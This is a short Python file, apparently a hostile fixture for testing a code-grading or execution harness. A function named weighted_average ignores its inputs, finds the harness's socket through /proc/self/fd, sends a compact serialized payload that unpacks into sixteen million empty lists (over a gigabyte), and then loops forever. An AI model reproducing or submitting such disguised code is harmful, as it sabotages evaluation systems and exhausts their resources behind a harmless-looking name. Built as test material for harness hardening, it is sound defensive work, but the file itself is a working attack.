"""Answers with sixteen million empty lists: 16 MB on their way, more than a gigabyte where they are unpacked."""

# earns: normalize
# says: weighted_average
# %%
import os
import stat

reply = (
    b"\x83\xa7changed\x90\xa7printed\xa0\xa5value" + b"\xdd" + (16_000_000).to_bytes(4, "big") + b"\x90" * 16_000_000
)


def weighted_average(values, weights):
    (end,) = [n for n in range(3, 300) if os.path.exists(f"/proc/self/fd/{n}") and stat.S_ISSOCK(os.fstat(n).st_mode)]
    with open(end, "wb", closefd=False) as connection:
        connection.write((len(reply) + 1).to_bytes(8, "big") + b"\x04" + reply)
    while True:
        pass


# %% right: normalize
